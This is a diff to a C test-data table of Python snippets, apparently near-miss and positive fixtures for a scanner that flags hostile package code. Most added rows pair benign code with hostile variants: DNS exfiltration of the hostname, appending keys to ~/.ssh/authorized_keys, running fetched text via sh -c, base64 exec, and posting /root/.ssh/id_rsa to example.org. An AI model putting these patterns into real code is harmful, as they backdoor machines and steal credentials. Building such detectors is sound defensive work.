@@ -13,6 +13,9 @@ enum { P_IMPORT = CH_PLACE_IMPORT };
     "if __name__ == '__main__':\n    requests.get('http://example.org/')\n"
 #define LOAD "return torch.load(io.BytesIO(requests.get(u).content), "
 
+#define TASK   "import requests\nfrom airflow.sdk import dag, task, task_group\n"
+#define CALLED "def f():\n    requests.get('http://example.org/')\nf()\n"
+
 const struct source_row source_row_near[] = {
     /* a docstring that shows what bidirectional controls do */
     {P_IMPORT, NULL,
@@ -93,6 +96,117 @@ const struct source_row source_row_near[] = {
     {P_IMPORT, "look-alike-name",
      "def l\xd0\xbe"
      "ad(self):\n    pass\n"},
+    /* how one of two values is put together says nothing of the other's name */
+    {P_IMPORT, NULL,
+     "import requests\ndef f(a):\n    s = 'v{}'.format(a) or requests.Session()\n"
+     "    return s.request('GET', a)\n"},
+    {P_IMPORT, "hidden-name",
+     "import requests\ndef f(a):\n    s = a or getattr(requests, 'Ses' + 'sion')()\n"
+     "    return s.request('GET', a)\n"},
+    {P_IMPORT, "hidden-name",
+     "import os\ndef f(a):\n    g = a or getattr(os, 'sys' + 'tem')\n    g('id')\n"},
+    /* the machine's own name, and one that is made of it */
+    {P_IMPORT, NULL,
+     "import socket\ndef f():\n    return str(socket.gethostname()).split('.local', 1)[0]\n"
+     "def g():\n    return socket.gethostbyname(f())\n"},
+    {P_IMPORT, NULL,
+     "import socket\ndef f(name=''):\n    name = name.strip()\n    if not name:\n"
+     "        name = socket.gethostname()\n    for a in socket.getaddrinfo(name, None):\n"
+     "        name = a[3]\n    return name\ndef g():\n    return socket.gethostbyname(f())\n"},
+    {P_IMPORT, NULL,
+     "import socket\ndef f():\n    h = socket.gethostname()\n"
+     "    return socket.gethostbyname(h.split('.')[0].lower())\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef f(d):\n    socket.gethostbyname(socket.gethostname() + d)\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef f(d):\n    h = socket.gethostname()\n    h += d\n"
+     "    socket.gethostbyname(h)\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef f(d):\n    h = socket.gethostname().split('.')[0]\n"
+     "    if d:\n        h = h + d\n    socket.gethostbyname(h)\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef f(d):\n    h = socket.gethostname() + d\n    if d:\n        h = d\n"
+     "    socket.gethostbyname(h)\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef f(d):\n    socket.gethostbyname('.'.join([socket.gethostname(), d]))\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef f(d):\n    socket.gethostbyname(d % socket.gethostname())\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef f(d):\n    socket.gethostbyname(d.format(socket.gethostname()))\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef f():\n    socket.gethostbyname('H.x.example.org'.replace('H', "
+     "socket.gethostname()))\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef f(d):\n    h = socket.gethostname().split('.')[0]\n"
+     "    socket.gethostbyname(h.replace('-', d))\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef e(h):\n    return h[::-1] + '.x.example.org'\n"
+     "def f():\n    socket.gethostbyname(e(socket.gethostname()))\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef name():\n    return f'{socket.gethostname()}.{D}'\n"
+     "def f():\n    socket.gethostbyname(name())\n"},
+    {P_IMPORT, "dns-theft",
+     "import socket\ndef f(d):\n    socket.gethostbyname((socket.gethostname() + d) or d)\n"},
+    /* keys that may log in: somebody's whom one is told of, and one's own */
+    {P_IMPORT, NULL,
+     "import os\ndef f(d):\n    p = os.path.join(d, '.ssh/authorized_keys')\n"
+     "    open(p, 'w').close()\n    return p\nif __name__ == '__main__':\n    f('x')\n"},
+    {P_IMPORT, NULL,
+     "import os\ndef f(key):\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as "
+     "o:\n        o.write(key)\n"},
+    {P_IMPORT, "login-key",
+     "import os\ndef f(key):\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as "
+     "o:\n        o.write(key)\nf(K)\n"},
+    {P_IMPORT, "login-key",
+     "import os, requests\ndef f():\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), "
+     "'a') as o:\n        o.write(requests.get('http://example.org/').text)\n"},
+    {P_IMPORT, "login-key",
+     "from pathlib import Path\nK = 'ssh-ed25519 x'\ndef f():\n    "
+     "(Path.home() / '.ssh/authorized_keys').write_text(K)\n"},
+    {P_IMPORT, "login-key",
+     "import os\ndef f():\n    os.system('echo ssh-ed25519 x >> ~/.ssh/authorized_keys')\n"},
+    {P_IMPORT, "login-key",
+     "import os, shutil\ndef f(p):\n    shutil.copy(p, "
+     "os.path.expanduser('~/.ssh/authorized_keys'))\n"},
+    {CH_PLACE_INSTALL, "login-key",
+     "import os\ndef f(k):\n    open(os.path.expanduser('~/.ssh/authorized_keys'), "
+     "'a').write(k)\n"},
+    /* an address that was fetched, and a program */
+    {P_IMPORT, NULL,
+     "import requests, subprocess\ndef f(u):\n    u = requests.get(u).text\n"
+     "    subprocess.run(['curl', '-o', 'x', u])\n"},
+    {P_IMPORT, "remote-code",
+     "import requests, subprocess\ndef f(u):\n    u = requests.get(u).text\n"
+     "    subprocess.run(['sh', '-c', u])\n"},
+    {P_IMPORT, "remote-code",
+     "import requests, subprocess\ndef f(u):\n    u = requests.get(u).text\n"
+     "    subprocess.run(['curl ; ' + u], shell=True)\n"},
+    {P_IMPORT, "remote-code",
+     "import requests, subprocess\ndef f(u):\n    u = requests.get(u).text\n"
+     "    subprocess.run([u, '-o', 'x'])\n"},
+    {P_IMPORT, "remote-code",
+     "import requests, subprocess\ndef f(u, a):\n    u = requests.get(u).text\n"
+     "    c = ['curl', '-o', 'x', u]\n    if a:\n        c = ['sh', '-c', u]\n"
+     "    subprocess.run(c)\n"},
+    /* a package's __main__.py */
+    {CH_PLACE_PROGRAM, NULL, "import requests\nrequests.get('http://example.org/')\n"},
+    {CH_PLACE_PROGRAM, NULL,
+     "import requests\ndef f():\n    requests.get('http://example.org/')\nf()\n"},
+    {CH_PLACE_PROGRAM, "hidden-code", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
+    {CH_PLACE_PROGRAM, "secret-theft",
+     "import requests\nrequests.post('http://example.org/', "
+     "data=open('/root/.ssh/id_rsa').read())\n"},
+    /* a task of Airflow is called by its scheduler */
+    {P_IMPORT, NULL, TASK "@task\n" CALLED},
+    {P_IMPORT, NULL, TASK "@task(retries=5)\n" CALLED},
+    {P_IMPORT, NULL, TASK "@task.branch\n" CALLED},
+    {P_IMPORT, "import-network", TASK "@task_group\n" CALLED},
+    {P_IMPORT, "import-network", TASK "@dag\n" CALLED},
+    {P_IMPORT, "import-network", "from .sdk import task\nimport requests\n@task\n" CALLED},
+    {P_IMPORT, "import-network", "def task(f):\n    return f\nimport requests\n@task\n" CALLED},
+    {P_IMPORT, "import-network",
+     "import requests\ntry:\n    from airflow.sdk import task\nexcept ImportError:\n"
+     "    task = lambda f: f\n@task\n" CALLED},
     /* tensors, and objects */
     {P_IMPORT, NULL, "import io, requests, torch\ndef f(u):\n    " LOAD "weights_only=True)\n"},
     {P_IMPORT, "remote-code",
